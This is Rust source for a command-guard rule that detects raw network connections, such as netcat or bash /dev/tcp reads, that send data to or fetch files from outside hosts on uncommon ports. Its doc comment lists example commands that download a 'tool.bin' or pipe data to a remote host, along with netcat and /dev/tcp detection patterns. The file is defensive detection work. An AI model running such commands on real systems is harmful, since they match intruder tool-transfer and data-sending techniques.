//! `raw-connection`: a plain connection that sends data to another machine or saves its response, on a port without a
//! well-known service.
//!
//! ## Why
//! A service's clients use a protocol. Intruders use raw connections to download tools and send files. ATT&CK T1095,
//! T1571, T1105.
//!
//! ## Examples
//! - asked: `echo ready | nc relay.acme-tools.net 8081`
//! - asked: `nc 198.51.100.20 9001 > tool.bin`
//! - asked: `bash -c 'cat < /dev/tcp/198.51.100.20/9001 > tool.bin'`
//! - passes: `nc -zv relay.acme-tools.net 8081`
//! - passes: `echo stats | nc cache.acme-tools.net 11211`
//! - passes: `echo ping | nc 10.0.0.5 9001`
//!
//! ## Instead
//! Use a client for the service's protocol, such as `curl`. To trust the host, add it to `hosts`.

use guard_sdk::addresses::host;
use guard_sdk::syntax::{Command, Redirection};
use guard_sdk::text::shorten;
use guard_sdk::{Outcome, Rule};

use super::Hit;
use crate::kinds::{CONNECTORS, has_any, hosts, is_any};
use crate::view::{View, has_option, name, texts};

pub(crate) const RULE: Rule = Rule {
    id: "raw-connection",
    summary: "transfers data over a plain connection",
    default: Outcome::Ask,
    ceiling: Outcome::Deny,
};

/// Ports of services that people access manually: mail, names, the web, caches, queues, metrics.
const SERVICES: &[&str] = &[
    "21",
    "22",
    "23",
    "25",
    "43",
    "53",
    "70",
    "79",
    "80",
    "110",
    "119",
    "143",
    "194",
    "389",
    "443",
    "465",
    "514",
    "587",
    "636",
    "873",
    "993",
    "995",
    "1025",
    "1883",
    "2003",
    "2181",
    "3306",
    "4222",
    "5432",
    "6379",
    "8080",
    "8125",
    "9200",
    "11211",
    "11300",
    "27017",
    "http",
    "https",
    "smtp",
    "ftp",
    "telnet",
    "domain",
    "whois",
    "finger",
    "memcached",
];

const REMEDY: &str =
    "use a client for the protocol; to trust the host, add it to `hosts` in the settings of `intrusion-guard`";

pub(crate) fn check(view: &View<'_>) -> Option<Hit> {
    let to = view.commands().find_map(|command| client_peer(command, view).or_else(|| device_peer(command, view)))?;
    Some(Hit::new(format!("Transfers data over a raw connection to `{}`", shorten(&to)), REMEDY))
}

/// Returns the other end if a client of plain connections receives or saves data.
fn client_peer(command: &Command, view: &View<'_>) -> Option<String> {
    let program = name(command);
    let is_tls = program == "openssl" && texts(command).next() == Some("s_client");
    let by_name = is_any(&program, CONNECTORS) && program != "websocat"
        || matches!(&*program, "whois" | "tftp")
        || program == "curl" && texts(command).any(|text| has_any(text, &["telnet://", "gopher://", "dict://"]));
    let connects = by_name || is_tls;
    if !connects || has_option(command, "zl", &["listen", "version", "help"]) {
        return None;
    }
    if !command.is_fed() && !is_kept(command, view) {
        return None;
    }
    let words: Vec<&str> = texts(command).filter(|text| !text.starts_with('-')).collect();
    words.iter().enumerate().find_map(|(at, word)| {
        let (address, port) = match word.rsplit_once(':') {
            Some((address, port)) => (address, port.split(',').next().unwrap_or_default()),
            None => (*word, words.get(at + 1).copied().unwrap_or_default()),
        };
        let is_port = !port.is_empty() && port.bytes().all(|byte| byte.is_ascii_digit());
        let to = host(address);
        (is_port && !is_any(port, SERVICES) && is_far(&to, view)).then(|| format!("{to}:{port}"))
    })
}

/// Returns the other end of a connection that a shell opens as a file and reads.
fn device_peer(command: &Command, view: &View<'_>) -> Option<String> {
    let reads = |one: &&Redirection| one.operator.starts_with('<') && !one.operator.starts_with("<<");
    let is_probe = matches!(&*name(command), "" | ":" | "true" | "echo" | "printf" | "timeout");
    command.redirections.iter().filter(reads).filter(|_| !is_probe).find_map(|one| {
        let rest = one.target.text.strip_prefix("/dev/tcp/").or_else(|| one.target.text.strip_prefix("/dev/udp/"))?;
        let (to, port) = rest.split_once('/')?;
        (!is_any(port, SERVICES) && is_far(to, view)).then(|| format!("{to}:{port}"))
    })
}

/// Returns whether the received data goes to a file or a program.
fn is_kept(command: &Command, view: &View<'_>) -> bool {
    let to_file = command.redirections.iter().any(|one| {
        one.operator.starts_with('>') && matches!(one.fd, 1 | -1) && !one.target.text.starts_with(['&', '/'])
            || one.operator.starts_with('>')
                && one.target.text.starts_with('/')
                && !one.target.text.starts_with("/dev/")
    });
    let position = &command.position;
    to_file || view.index().pipeline(command).iter().any(|other| other.position.index > position.index)
}

/// Returns whether a host is known to be on another network: it has a domain, or an address that isn't private.
pub(super) fn is_far(host: &str, view: &View<'_>) -> bool {
    const NEAR: &[&str] =
        &[".local", ".lan", ".home", ".internal", ".localdomain", ".intranet", ".corp", ".svc", ".private"];
    let numbers: Vec<u8> = host.split('.').filter_map(|part| part.parse().ok()).collect();
    let is_private = match numbers.as_slice() {
        [10 | 127, _, _, _] | [192, 168, _, _] | [169, 254, _, _] => true,
        [172, second, _, _] => (16..32).contains(second),
        _ => false,
    };
    let in_cluster = host.contains(".svc.") || NEAR.iter().any(|end| host.ends_with(end));
    host.contains('.') && !is_private && !in_cluster && !hosts::is_reserved(host) && view.is_foreign(host)
}
